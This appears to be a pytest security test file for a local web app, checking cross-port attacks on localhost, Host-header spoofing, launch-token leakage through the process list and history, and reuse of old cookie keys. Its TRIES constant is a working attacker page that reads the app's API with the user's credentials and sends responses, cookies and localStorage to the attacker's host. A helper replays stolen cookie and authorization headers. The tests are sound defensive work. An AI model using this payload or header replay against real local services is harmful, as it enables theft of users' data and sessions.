"""The app's session beside other programs on this machine, and the link that opens it."""

from __future__ import annotations

import hashlib
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect
from starlette.testclient import TestClient

from attacks.listener import listening
from director.browser.chromium import find_chromium
from director.store import Store
from director.web import make_app
from director.web.app_server import bind_server_socket, open_served_app
from web.pages.conftest import _home, app  # noqa: F401  fixtures
from web.pages.windows import FLAGS, PATIENCE, App, a_workflow
from web.rooms import HOME, a_studio, key_of

PATHS = (
    "/api/workflows",
    "/api/workflows/bank",
    "/api/secrets",
    "/api/settings",
    "/w/bank",
    "/w/bank/part/chat",
    "/settings",
    "/events",
    "/api/openapi.json",
)
CANARY = "canary-of-the-user"
# What a stranger's page, of the same host and another port, does in the user's browser.
TRIES = """
<img src="{app}/api/workflows"><script src="{app}/api/workflows"></script>
<iframe src="{app}/w/bank"></iframe>
<form method="post" action="{app}/api/workflows" enctype="text/plain"><input name='{{"name": "' value='x"}}'></form>
<script>
const told = [];
const tell = (text) => fetch("/told?" + encodeURIComponent(text));
const paths = {paths};
Promise.allSettled(paths.flatMap((path) => [
  fetch("{app}" + path, {{credentials: "include"}}).then((answer) => answer.text()).then(tell),
  fetch("{app}" + path, {{credentials: "include", mode: "no-cors", method: "POST", body: "{{}}"}}),
  fetch("{app}" + path, {{credentials: "include", method: "DELETE"}}).then(tell),
]))
.then(() => tell(document.cookie + JSON.stringify(localStorage)))
.then(() => (document.title = "over"));
</script>
"""


def _replay(url: str, headers: dict[str, str]) -> list[str]:
    """What the app answers to somebody who has all that a browser sent to a stranger."""
    stolen = {name: text for name, text in headers.items() if name in ("cookie", "authorization")}
    found = []
    with httpx.Client(base_url=url, headers=stolen, timeout=60) as client:
        for path in PATHS:
            for accept in ("*/*", "text/html"):
                with client.stream("GET", path, headers={"accept": accept}) as answer:
                    if answer.status_code != 401:
                        found.append(next(answer.iter_text(), ""))
        made = client.post("/api/workflows", json={"name": "Theirs"})
        found.append(str(made.status_code))
    return found


@pytest.mark.attack(
    "Another program on this machine gets what the user's browser sends to every port of "
    "127.0.0.1, and uses it on the app",
    must="nothing but the empty page shell is read, nothing is changed",
    tries=19,
)
@pytest.mark.promise("F3")
@pytest.mark.promise("F4")
def test_what_a_browser_sends_to_another_port_opens_nothing(app: App) -> None:  # noqa: F811
    """The user opens a stranger's page on another port; all that came with it is replayed."""
    a_workflow(app.store, "bank", CANARY)
    with listening() as stranger:
        page = app.open("/w/bank")
        expect(page.locator("h1")).to_contain_text(CANARY)
        page.goto(f"{stranger.url}/anything")
        sent = stranger.asked[0][1]
    answers = _replay(app.url, sent)
    assert answers.pop() == "401"
    assert all("enter.js" in text for text in answers)
    assert not any(CANARY in text for text in answers)
    assert [row for row in app.store.ids("workflow") if row != "bank"] == []


@pytest.mark.attack(
    "A page on another port of the same host reads from the app and writes to it in the user's "
    "own browser",
    must="it reads nothing, frames nothing, changes nothing",
    tries=30,
)
@pytest.mark.promise("F3")
def test_a_page_on_another_port_reads_and_changes_nothing(app: App) -> None:  # noqa: F811
    """With fetch in each mode, pictures, scripts, frames and forms."""
    a_workflow(app.store, "bank", CANARY)
    before = app.store.ids("workflow")
    with listening() as stranger:
        text = TRIES.format(app=app.url, paths=list(PATHS[:-3]))
        stranger.pages["/evil"] = ("text/html", text)
        page = app.context.new_page()
        page.goto(f"{stranger.url}/evil")
        page.wait_for_function("document.title === 'over'", timeout=PATIENCE)
        page.evaluate("document.forms[0].submit()")
        page.wait_for_url(f"{app.url}/**", timeout=PATIENCE)
        assert "another site" in page.content()
        told = [path for path, _ in stranger.asked if path.startswith("/told")]
    assert not any(CANARY in path for path in told)
    assert app.store.ids("workflow") == before


@pytest.mark.attack(
    "A name under localhost other than the app's own random one asks the app",
    must="421; the random name is in no answer, under whichever name it is asked",
    tries=9,
)
@pytest.mark.promise("F2")
def test_only_the_very_name_is_served(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A neighbour's, one below it, with a dot, with another port; and it is not given away."""
    monkeypatch.setenv("DIRECTOR_HOME", str(tmp_path))
    with bind_server_socket("127.0.0.1", 0) as listens:
        studio = open_served_app(store, listens)
        port, own = listens.getsockname()[1], studio.sessions.host
    assert re.fullmatch(r"d[0-9a-f]{20}\.localhost", own)
    wrong = [
        *(f"{name}:{port}" for name in ("evil.localhost", f"a.{own}", f"{own}.", own[1:])),
        *(f"{own}{rest}" for rest in ("", ":80", f":{port}0", f".evil.example:{port}")),
        f"{own}:{port}@evil.example",
    ]
    with TestClient(make_app(studio), base_url=f"http://127.0.0.1:{port}") as client:
        for host in wrong:
            assert client.get("/here", headers={"host": host}).status_code == 421, host
        assert client.get("/here", headers={"host": f"{own}:{port}"}).status_code == 204
        assert client.get("/here").status_code == 404
        for path in ("/", "/launch", "/here", "/static/enter.js", "/api/workflows"):
            answer = client.get(path, headers={"accept": "text/html"})
            assert own not in answer.text + str(answer.headers)


@contextmanager
def started(folder: Path, **environ: str) -> Iterator[subprocess.Popen[str]]:
    """`director app`, which opens a browser as it does for anyone."""
    known = {**os.environ, "DIRECTOR_HOME": str(folder), **environ}
    command = [sys.executable, "-m", "director.cli", "app", "--port", "0"]
    program = subprocess.Popen(command, env=known, stdout=subprocess.PIPE, text=True)
    try:
        yield program
    finally:
        program.send_signal(signal.SIGINT)
        program.wait(60)
        assert program.stdout is not None
        program.stdout.close()


def recorder(folder: Path) -> Path:
    """A browser that writes down with which words it was started, as the process list shows it."""
    script = folder / "browser"
    script.write_text(
        f'#!/bin/sh\ntr "\\0" " " < /proc/$$/cmdline > "{folder}/words.new"\n'
        f'mv "{folder}/words.new" "{folder}/words"\n'
    )
    script.chmod(0o700)
    return script


def _opened_words(folder: Path, program: subprocess.Popen[str]) -> tuple[str, str]:
    assert program.stdout is not None
    told = "".join(program.stdout.readline() for _ in range(2))
    link = re.search(r"http://\S+/launch\S+", told)
    assert link, told
    words = folder / "words"
    # The program goes on only after its browser was started, and says so with this line.
    while "Ctrl-C" not in program.stdout.readline():
        pass
    for _ in range(600):
        if words.exists():
            return link[0], words.read_text()
        try:
            program.wait(0.1)
        except subprocess.TimeoutExpired:
            continue
    raise AssertionError("no browser was started")


@pytest.mark.attack(
    "Another user of the machine reads the launch link in the process list and is quicker",
    must="the words that the browser is started with hold no link; the file they name is private",
    tries=2,
)
@pytest.mark.promise("F4")
@pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="reads Linux's process list")
def test_the_launch_link_is_not_in_the_process_list(tmp_path: Path) -> None:
    """Whatever stands in the command line of the browser opens nothing."""
    with started(tmp_path, BROWSER=str(recorder(tmp_path))) as program:
        link, words = _opened_words(tmp_path, program)
        token = re.split(r"[#/]", link)[-1]
        assert token not in words
        file = Path(urlsplit(words.split()[-1]).path)
        assert token in file.read_text()
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert not file.exists()


@pytest.mark.attack(
    "The launch link stays behind: in the address, the history, a request, or for a second use",
    must="the token is taken out of the address and works once; no cookie is set",
    tries=2,
)
@pytest.mark.promise("F4")
@pytest.mark.parametrize("found", [True, False])
def test_the_launch_file_opens_the_app_and_leaves_nothing(
    app: App,  # noqa: F811
    tmp_path: Path,
    *,
    found: bool,
) -> None:
    """In a real browser: under the random name where it is found, else under the address."""
    with started(tmp_path, BROWSER=str(recorder(tmp_path))) as program:
        link, words = _opened_words(tmp_path, program)
        chromium = _another(app.browser, finds_names=found)
        context = chromium.new_context()
        page = context.new_page()
        page.goto(words.split()[-1])
        page.wait_for_url(re.compile(r"^http://[^#]+/$"), timeout=PATIENCE)
        expect(page.get_by_role("link", name="Settings")).to_be_visible(timeout=PATIENCE)
        assert urlsplit(page.url).hostname == (urlsplit(link).hostname if found else "127.0.0.1")
        assert context.cookies() == []
        token = link.partition("#")[2]
        assert token not in words
        assert not any(token in url for url in _history(page))
        _refused(page, link)
        chromium.close()


def _another(browser: Browser, *, finds_names: bool) -> Browser:
    rules = [] if finds_names else ["--host-resolver-rules=MAP *.localhost ^NOTFOUND"]
    kind = browser.browser_type
    return kind.launch(executable_path=find_chromium(), args=[*FLAGS, *rules])


def _history(page: Page) -> list[str]:
    return [
        page.url,
        str(page.evaluate("performance.getEntriesByType('resource').map((e) => e.name)")),
    ]


def _refused(page: Page, link: str) -> None:
    page.evaluate("localStorage.clear()")
    page.goto(link.replace(urlsplit(link).netloc, urlsplit(page.url).netloc))
    expect(page.get_by_text("is not let in yet")).to_be_visible(timeout=PATIENCE)


@pytest.mark.attack(
    "A key of the time when it was a cookie, which every port has seen, is sent as a header",
    must="401",
)
@pytest.mark.promise("F4")
def test_a_key_from_an_old_cookie_opens_nothing(store: Store, tmp_path: Path) -> None:
    """Sessions of earlier versions are forgotten: their keys went to every port."""
    digest = hashlib.sha256(b"old-cookie").hexdigest()
    (tmp_path / "sessions.json").write_text(json.dumps({digest: time.time()}))
    studio = a_studio(store, tmp_path)
    with TestClient(make_app(studio), base_url=HOME) as client:
        old = {"authorization": "Bearer old-cookie", "cookie": "director_7878=old-cookie"}
        assert client.get("/api/workflows", headers=old).status_code == 401
        assert client.get("/api/workflows", headers=key_of(studio)).status_code == 200
